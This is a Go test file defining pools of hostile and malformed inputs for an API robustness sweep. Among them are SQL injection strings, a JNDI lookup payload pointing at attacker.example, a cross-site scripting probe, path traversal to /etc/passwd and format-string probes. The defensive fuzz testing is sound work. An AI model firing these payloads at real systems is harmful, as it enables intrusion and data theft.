package sweep_test

import (
	"encoding/json"
	"fmt"
	"strings"
)

// hostileStrings are string values a client may send anywhere. None may
// match driverText: answers may quote them.
var hostileStrings = []string{
	"", " ", "\t\r\n", "a\x00b", "\x00", "\ufffd", "\u202eevil", "😀", strings.Repeat("😀", 300),
	"' OR '1'='1", "1; DROP TABLE api_keys; --", `" OR ""="`, "1' UNION SELECT password_hash FROM admins --",
	"{{.}}", `{{template "x"}}{{define "x"}}{{template "x"}}{{end}}`, "${jndi:ldap://attacker.example/a}",
	"<script>alert(1)</script>", "../../../../etc/passwd", "%00", "%s%s%s%n", `\`, `\u0000`,
	"NaN", "-0", "0x7fffffff", "1e309", "null", "true", "[]", "{}", "a@b", "ＡＢＣ",
	strings.Repeat("x", 100_000), strings.Repeat("é", 5_000),
}

// edgeStrings go into every string slot (the random picks add the rest):
// NUL, invalid UTF-8, a lone surrogate, and 100 characters of 4 bytes each
// (lengths counted in bytes and in characters disagree).
var edgeStrings = []json.RawMessage{
	json.RawMessage(`"a\u0000b"`), json.RawMessage("\"a\xffb\""), json.RawMessage(`"\udc00"`),
	json.RawMessage(`"` + strings.Repeat("😀", 100) + `"`),
}

// rawHostile are JSON values built byte by byte: invalid UTF-8, encoded and
// escaped lone surrogates, and values of every JSON type at the edges.
var rawHostile = []string{
	"\"a\xff\xfeb\"", "\"\xed\xa0\x80\"", `"\ud800"`, `"x\udfff"`, `"\ud83d"`, `"\u0000"`,
	`0`, `-1`, `1.5`, `2147483648`, `-2147483649`, `9223372036854775808`, `1e308`, `-1e308`,
	`true`, `false`, `null`, `[]`, `{}`, `[1,"a",null]`, `{"a":{"b":{"c":[1]}}}`,
	strings.Repeat("[", 800) + strings.Repeat("]", 800),
	strings.Repeat(`{"a":`, 800) + "1" + strings.Repeat("}", 800),
	"[" + strings.TrimSuffix(strings.Repeat(`"1",`, 5000), ",") + "]",
	"[" + strings.TrimSuffix(strings.Repeat(`1,`, 5000), ",") + "]",
	bigObject(2000),
}

func bigObject(n int) string {
	var b strings.Builder
	b.WriteString("{")
	for i := range n {
		if i > 0 {
			b.WriteString(",")
		}
		fmt.Fprintf(&b, `"k%d":%d`, i, i)
	}
	return b.String() + "}"
}

// hostilePool is every hostile value as JSON.
func hostilePool() []json.RawMessage {
	var out []json.RawMessage
	for _, s := range hostileStrings {
		b, _ := json.Marshal(s)
		out = append(out, b)
	}
	for _, s := range rawHostile {
		out = append(out, json.RawMessage(s))
	}
	return out
}

// pick returns n distinct values of the pool, chosen by the sweep's rng.
func (s *sweeper) pick(pool []json.RawMessage, n int) []json.RawMessage {
	idx := s.rng.Perm(len(pool))
	out := make([]json.RawMessage, 0, n)
	for _, i := range idx[:min(n, len(idx))] {
		out = append(out, pool[i])
	}
	return out
}

// hostileIDs are path and query values where an id belongs.
var hostileIDs = []string{
	"0", "-1", "+1", "01", "1.0", "1e3", "abc", "99999999999999999999", "9223372036854775808",
	"%00", "1%00", "%FF", "%ED%A0%80", "1%20", "%20", "1;DROP%20TABLE%20leads", "..%2F..%2Fetc", strings.Repeat("9", 5000),
}

// hostileQuery are query-string values (already escaped).
var hostileQuery = []string{
	"", "%00", "a%00b", "%FF%FE", "%ED%A0%80", "-1", "0", "201", "99999999999999999999", "abc", "1e400",
	"%27%20OR%20%271%27%3D%271", "%25", "%5B%5D", strings.Repeat("x", 50_000), strings.Repeat("%F0%9F%98%80", 1000),
}
